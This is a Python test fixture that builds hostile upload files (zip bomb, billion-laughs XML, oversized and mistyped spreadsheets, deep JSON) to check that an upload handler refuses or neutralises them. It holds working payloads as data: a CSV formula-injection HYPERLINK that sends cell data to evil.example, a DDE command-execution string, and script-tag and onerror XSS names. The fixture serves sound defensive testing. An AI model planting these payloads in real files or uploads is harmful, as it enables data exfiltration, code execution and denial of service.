"""Hostile uploads, generated (no committed binaries): shared by the unit, page and bench suites.

Each case is a file a hostile participant could upload. `refused` cases must be refused with a
clear message (the previous dataset kept); `loaded` cases must load with their content made
harmless (names cleaned, formulas neutralised on export); `either` may do either, cleanly.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    build: Callable[[], bytes]
    expect: str  # "refused", "loaded" or "either"

    @property
    def data(self) -> bytes:
        return _built(self.id)


def _xlsx(fill: Callable[[openpyxl.worksheet.worksheet.Worksheet], None]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    fill(sheet)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _far_cell(sheet) -> None:
    sheet["A1"] = "a"
    sheet.cell(row=100_000, column=1_000, value=1)  # 4.9 KB declaring 99,999 x 1,000 cells


def _wide_row(sheet) -> None:
    sheet.cell(row=1, column=3_000, value="last")
    sheet.cell(row=2, column=1, value=1)


def _small_xlsx() -> bytes:
    return _xlsx(lambda s: (s.append(["a", "b"]), s.append([1, 2])))


def _replace_part(data: bytes, part: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = content if info.filename == part else source.read(info.filename)
            target.writestr(info.filename, body)
    return out.getvalue()


def _xlsx_no_dimension_far_cell() -> bytes:
    # The same far cell with the <dimension> element removed: the size must be counted instead.
    data = _xlsx(_far_cell)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    start = sheet.find(b"<dimension")
    end = sheet.find(b"/>", start) + 2
    return _replace_part(data, "xl/worksheets/sheet1.xml", sheet[:start] + sheet[end:])


def _xlsx_zip_bomb() -> bytes:
    # A real workbook plus one part that inflates to 640 MB of zeros (under 1 MB compressed).
    out = io.BytesIO(_small_xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        chunk = bytes(16 * 1024 * 1024)
        with archive.open("xl/media/bomb.bin", "w", force_zip64=True) as member:
            for _ in range(40):
                member.write(chunk)
    return out.getvalue()


def _xlsx_billion_laughs() -> bytes:
    entities = ['<!ENTITY lol "lol">']
    entities += [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    ]
    strings = (
        '<?xml version="1.0"?><!DOCTYPE sst [' + "".join(entities) + "]>"
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode()
    data = _xlsx(lambda s: (s.append(["name", "b"]), s.append(["x", 2])))
    return _replace_part(data, "xl/sharedStrings.xml", strings)


def _xlsx_truncated() -> bytes:
    data = _small_xlsx()
    return data[: len(data) // 2]


def _parquet(table: pa.Table) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(table, buffer, compression="zstd")
    return buffer.getvalue()


def _parquet_many_cells() -> bytes:
    # A few hundred KB of Parquet declaring 60,000,000 cells (run-length encoded).
    zeros = pa.array(np.zeros(6_000_000, dtype=np.int8))
    return _parquet(pa.table({f"c{i}": zeros for i in range(10)}))


def _parquet_truncated() -> bytes:
    data = _parquet(pa.table({"a": list(range(1000)), "b": ["x"] * 1000}))
    return data[: len(data) // 2]


def _csv(frame: pd.DataFrame) -> bytes:
    return frame.to_csv(index=False).encode()


def _wide_csv(columns: int) -> bytes:
    return (
        ",".join(f"c{i}" for i in range(columns)) + "\n" + "1," * (columns - 1) + "1\n"
    ).encode()


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20


def _nul_csv() -> bytes:
    return b"a,b\n1,\x00\x00\x00\n2,3\n" + b"\x00" * 4096


def _mixed_encodings() -> bytes:
    return (
        b"name,city\n"
        + "Zoë,Köln\n".encode()
        + "José,Málaga\n".encode("latin-1")
        + ("王,北京\n".encode("gbk"))
    )


def _formula_cells() -> bytes:
    return (
        b"name,note,value\n"
        b'a,"=HYPERLINK(""https://evil.example/?""&A1,""click"")",1\n'
        b"b,+cmd|' /C calc'!A0,2\n"
        b"c,-2+3,3\n"
        b"d,@SUM(1+1),4\n"
    )


def _html_names() -> bytes:
    names = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](https://x.y)",
        "![x](https://tracker.example/p.png)",
        "y",
    ]
    rows = "\n".join(",".join(str(i + j) for j in range(len(names))) for i in range(20))
    return (",".join(f'"{n}"' for n in names) + "\n" + rows + "\n").encode()


def _big_cell() -> bytes:
    return b"id,text\n1," + b"x" * (10 * 1024 * 1024) + b"\n2,short\n"


def _deep_json() -> bytes:
    return b"[" * 50_000 + b"]" * 50_000


CASES: tuple[Case, ...] = (
    Case("xlsx_far_cell", "far.xlsx", lambda: _xlsx(_far_cell), "refused"),
    Case("xlsx_far_cell_no_dimension", "nodim.xlsx", _xlsx_no_dimension_far_cell, "refused"),
    Case("xlsx_3000_columns", "wide.xlsx", lambda: _xlsx(_wide_row), "refused"),
    Case("xlsx_zip_bomb", "bomb.xlsx", _xlsx_zip_bomb, "refused"),
    Case("xlsx_billion_laughs", "laughs.xlsx", _xlsx_billion_laughs, "either"),
    Case("xlsx_truncated", "cut.xlsx", _xlsx_truncated, "refused"),
    Case("xlsx_named_csv", "book.csv", _small_xlsx, "refused"),
    Case("parquet_60m_cells", "many.parquet", _parquet_many_cells, "refused"),
    Case("parquet_truncated", "cut.parquet", _parquet_truncated, "refused"),
    Case("parquet_named_xlsx", "table.xlsx", lambda: _parquet(pa.table({"a": [1]})), "refused"),
    Case("csv_named_parquet", "table.parquet", lambda: b"a,b\n1,2\n", "refused"),
    Case("csv_named_xlsx", "table2.xlsx", lambda: b"a,b\n1,2\n", "refused"),
    Case("csv_50000_columns", "wide.csv", lambda: _wide_csv(50_000), "refused"),
    Case("csv_2001_columns", "wide2.csv", lambda: _wide_csv(2_001), "refused"),
    Case("png_named_csv", "image.csv", _png, "refused"),
    Case("nul_bytes_csv", "nul.csv", _nul_csv, "refused"),
    Case("empty_csv", "empty.csv", lambda: b"", "refused"),
    Case("whitespace_csv", "blank.csv", lambda: b" \n\t\n  \n", "refused"),
    Case("header_only_csv", "header.csv", lambda: b"a,b,c\n", "refused"),
    Case("ragged_csv", "ragged.csv", lambda: b"a,b\n1,2,3,4\n5,6\n", "refused"),
    Case(
        "legacy_xls", "old.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "refused"
    ),
    Case("docx_extension", "notes.docx", lambda: b"hello", "refused"),
    Case("no_extension", "data", lambda: b"a,b\n1,2\n", "refused"),
    Case("json_nested_50000", "deep.json", _deep_json, "refused"),
    Case("json_scalar", "scalar.json", lambda: b"42", "refused"),
    Case("jsonl_broken_line", "rows.jsonl", lambda: b'{"a": 1}\n{"a": \n', "refused"),
    Case("garbage_bytes_csv", "garbage.csv", lambda: bytes(range(256)) * 50, "refused"),
    Case("formula_cells_csv", "formulas.csv", _formula_cells, "loaded"),
    Case("html_js_names_csv", "names.csv", _html_names, "loaded"),
    Case("duplicate_names_csv", "dupes.csv", lambda: b"a,a,a,b\n1,2,3,4\n5,6,7,8\n", "loaded"),
    Case("empty_names_csv", "blanks.csv", lambda: b",,b\n1,2,3\n4,5,6\n", "loaded"),
    Case("mixed_encodings_csv", "mixed.csv", _mixed_encodings, "either"),
    Case("single_10mb_cell_csv", "bigcell.csv", _big_cell, "either"),
)
BY_ID = {case.id: case for case in CASES}


@cache
def _built(case_id: str) -> bytes:
    return BY_ID[case_id].build()


def normal_file(size: int) -> bytes:
    """An ordinary CSV of about `size` bytes (at least a few rows): the bench's baseline."""
    rows = max(4, size // 40)
    frame = pd.DataFrame(
        {
            "id": np.arange(rows),
            "x": np.round(np.linspace(0, 1, rows), 6),
            "city": np.array(["Paris", "Lyon", "Nice"])[np.arange(rows) % 3],
            "y": np.arange(rows) % 2,
        }
    )
    return _csv(frame)[: max(size, 64)].rsplit(b"\n", 1)[0] + b"\n"
